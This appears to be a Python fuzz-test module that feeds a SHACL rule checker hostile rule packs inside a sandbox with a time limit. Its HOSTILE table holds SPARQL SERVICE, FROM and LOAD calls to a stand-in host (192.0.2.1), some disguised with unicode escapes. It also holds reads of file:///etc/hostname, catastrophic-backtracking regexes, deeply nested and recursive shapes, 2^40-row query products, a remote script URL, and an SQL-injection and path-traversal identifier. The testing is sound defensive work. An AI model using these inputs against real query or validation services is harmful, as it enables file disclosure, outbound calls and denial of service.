"""Hostile rule packs: a small pack whose rule reaches out, recurses, is huge, or whose Turtle is damaged by seed."""

from __future__ import annotations

import random
from collections.abc import Mapping, Sequence
from functools import cache
from unittest.mock import patch

from benchmarks.fuzz.damage import as_text
from benchmarks.fuzz.inputs import bases
from benchmarks.fuzz.watch import Sandbox, Seen, laid_out, watched
from checker import pipeline, resources, rulebook
from checker.engine import evaluate
from checker.pipeline import Request
from checker.prepared import Prepared, prepare
from checker.resources import Pack

_PREFIXES = """@prefix chk: <https://w3id.org/plancheck/chk#> .
@prefix plan: <https://w3id.org/plancheck/plan#> .
@prefix rdf: <http://www.w3.org/1999/02/22-rdf-syntax-ns#> .
@prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> .
@prefix sh: <http://www.w3.org/ns/shacl#> .
@prefix skos: <http://www.w3.org/2004/02/skos/core#> .
@prefix : <https://pack.example/> .
"""
_PACK = """:pack a chk:Pack ; rdfs:label "试验包"@zh , "trial"@en ; chk:base "https://pack.example/" ; chk:requiresCore ">=0.1,<1" .
"""
_CLAUSE = """:g rdfs:label "指南"@zh , "guideline"@en .
:c a chk:Clause ; chk:ofGuideline :g ; chk:number "1" ; chk:requirement "求"@zh , "demand"@en ;
    chk:instrument "件"@zh , "instrument"@en ; chk:article "条"@zh , "article"@en ; chk:strength chk:mandatory .
"""
_RULE = """:r a chk:Rule , sh:NodeShape ; chk:code "XX-1" ; rdfs:label "试"@zh , "try"@en ; chk:clause :c ;
    sh:targetClass plan:Project ; chk:remedy "改"@zh , "mend"@en ; %s .
"""
_SPARQL = 'sh:sparql [ a sh:SPARQLConstraint ; sh:prefixes chk:prefixes ; sh:message "错"@zh , "wrong"@en ; sh:select """%s""" ]'
_NAME = "plan:name"


def _select(where: str, tail: str = "") -> str:
    return _SPARQL % f"SELECT $this ?value {tail} WHERE {{ $this plan:name ?value . {where} }}"


def _property(constraint: str) -> str:
    return f'sh:property [ sh:path {_NAME} ; sh:message "错"@zh , "wrong"@en ; {constraint} ]'


_ALL = f"CONCAT({', '.join(f'?b{i}' for i in range(40))})"


def _product(chosen: str) -> str:
    """A query in which forty patterns have no more in common than the rule's own values: 2 to the power of 40 solutions."""
    triples = " . ".join(f"?a{i} plan:name ?b{i}" for i in range(40))
    return _SPARQL % f"SELECT $this ?value WHERE {{ $this plan:name ?own . {triples} . {chosen} }}"


# What a rule of the pack demands, by name; each is one input.
HOSTILE: Mapping[str, str] = {
    "harmless": _property("sh:minCount 1"),
    "service": _select("SERVICE <http://192.0.2.1/sparql> { ?s ?p ?o }"),
    "service in escapes": _select("\\\\u0053ERVICE <http://192.0.2.1/sparql> { ?s ?p ?o }"),
    "service between quotes": _select(
        "FILTER(?value != '''a'b''') SERVICE <http://192.0.2.1/sparql> { ?s ?p ?o } FILTER(?value != 'c')"
    ),
    "service behind a comparison": _select("FILTER(?value<1)SERVICE<http://192.0.2.1/>{?s ?p ?o}"),
    "from": _select("", "FROM <http://192.0.2.1/data.ttl>"),
    "from a file in escapes": _select("", "FR\\\\u004fM <file:///etc/hostname>"),
    "load": _select("} LOAD <file:///etc/hostname> {"),
    "graph of a file": _select("GRAPH <file:///etc/hostname> { ?s ?p ?o }"),
    "regex of nested repeats": _property('sh:pattern "^(([^x]+)+)+$(?!x)"'),
    "regex that is none": _property('sh:pattern "(("'),
    "regex of a huge count": _property('sh:pattern "(a{1000}){1000}"'),
    "regex in SPARQL": _select('FILTER(REGEX(?value, \\"^((.+)+)+y$\\"))'),
    "regex with odd flags": _property('sh:pattern "a" ; sh:flags "zzz"'),
    "recursive node": "sh:node :r",
    "recursive path": _property("sh:node :p") + " . :p a sh:NodeShape ; sh:property [ sh:path plan:name ; sh:node :p ]",
    "list that ends in itself": _property("sh:in _:l") + " . _:l rdf:first 1 ; rdf:rest _:l",
    "list of 20000": _property("sh:in ( " + '"x" ' * 20_000 + ")"),
    "or nested 300 deep": "sh:or ( [ " * 300 + "sh:minCount 1" + " ] )" * 300,
    "path nested 300 deep": 'sh:property [ sh:message "错"@zh , "wrong"@en ; sh:minCount 1 ; sh:path '
    + "[ sh:inversePath " * 300 + "plan:name" + " ]" * 300 + " ]",
    "sparql nested 300 deep": _select("{ " * 300 + "?s ?p ?o" + " }" * 300),
    "product of all with all": _select("?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l . FILTER(?c = ?l && ?f != ?i)"),
    "order that is no number": 'sh:order "abc" ; chk:needs :n . :n a sh:NodeShape ; sh:order "abc" ; sh:targetClass plan:Project',
    "odd identifier": _property("sh:minCount 1") + ' . <https://pack.example/a\\u0022b\\u003e'
    + "'; DROP TABLE t; --> a sh:NodeShape",
    "odd code": _property("sh:minCount 1") + ' . :r chk:code "../../x\\u0000\\u202e"',
    "two codes": _property("sh:minCount 1") + ' . :r chk:code "XX-2"',
    "script": 'sh:js [ a sh:JSConstraint ; sh:jsLibrary [ sh:jsLibraryURL "http://192.0.2.1/x.js" ] ; sh:jsFunctionName "f" ]',
    "import": "<http://www.w3.org/2002/07/owl#imports> <http://192.0.2.1/x.ttl> ; " + _property("sh:minCount 1"),
    "target by SPARQL": _property("sh:minCount 1") + ' ; sh:target [ a sh:SPARQLTarget ; sh:select "SELECT ?this WHERE {}" ]',
    "counts out of bounds": _property("sh:minCount 99999999999999999999999 ; sh:maxCount -1"),
    "bounds of other kinds": _property('sh:minInclusive "x" ; sh:maxLength 1.5 ; sh:languageIn ( 1 2 )'),
    "datatype of nothing": _property("sh:datatype <urn:x> ; sh:class <urn:y> ; sh:nodeKind sh:IRI"),
    "details that break": _property("sh:minCount 5") + ' ; chk:details [ sh:select "SELECT ?x WHERE { $this ?p" ]',
    "words that break": "sh:property [ sh:path plan:name ; sh:maxCount 0 ; "
    'sh:message "{?{?this}} {?nothing} {0} %s"@zh , "{?this"@en ]',
    "product of all names": _product(f"FILTER(STRLEN({_ALL}) = 1) BIND(?own AS ?value)"),
    "product of all names, each solution a result": _product(f"BIND({_ALL} AS ?value)"),
    "product that cannot be compiled": _product(f"FILTER(REGEX({_ALL}, ?own) && STRLEN({_ALL}) = 1) BIND(?own AS ?value)"),
    "regex of many choices": _property('sh:pattern "^(.?){200}y(?!x)"'),
}  # fmt: skip
_NAMES = tuple(HOSTILE)
_SECONDS = 5.0  # for a rule here


def rule(demand: str) -> str:
    """The file of the rule that makes this demand."""
    return _PREFIXES + _RULE % demand


def files(demand: str) -> dict[str, bytes]:
    """The pack whose one rule makes this demand."""
    texts = {"pack.ttl": _PREFIXES + _PACK, "guidelines/g/clauses.ttl": _PREFIXES + _CLAUSE}
    return {name: text.encode() for name, text in (*texts.items(), ("rules/g/XX-1.ttl", rule(demand)))}


@cache
def _built_in() -> Prepared:
    return prepare(resources.packs())


def prepared(packs: Sequence[Pack]) -> Prepared:
    """What a check needs of the built-in pack and one without terms, which is most of it the built-in pack's."""
    return Prepared(_built_in().vocabulary, rulebook.load(packs), _built_in().compiled)


def run(sandbox: Sandbox, seed: int, engine: str = "auto") -> Seen:
    """Checks a small plan by the hostile pack of a seed; from the length of the list on, by a pack damaged by seed."""
    if seed < len(_NAMES):
        name, pack = _NAMES[seed], files(HOSTILE[_NAMES[seed]])
    else:
        rng = random.Random(f"pack {seed}")
        name, pack = "damaged", files(HOSTILE[rng.choice(("harmless", "details that break", "two codes"))])
        file = rng.choice(sorted(pack))
        pack[file] = as_text(pack[file], rng)
    own = bases("xlsx")[0].files
    with (
        patch.object(pipeline, "prepare", prepared),
        patch.object(evaluate, "MOST_SECONDS", _SECONDS),
        laid_out(sandbox.work / "pack", pack) as folder,
        laid_out(sandbox.work / "p", dict(own)) as package,
    ):
        request = Request(package, {}, packs=(folder,), engine=engine)
        seen = watched(sandbox, request, (*pack, "pack.example", "guidelines", str(folder)))
    seen.detail = f"{name}: {seen.detail}"
    seen.problems = [f"{name}: {problem}" for problem in seen.problems if not problem.startswith("rule XX-1 broke")]
    return seen
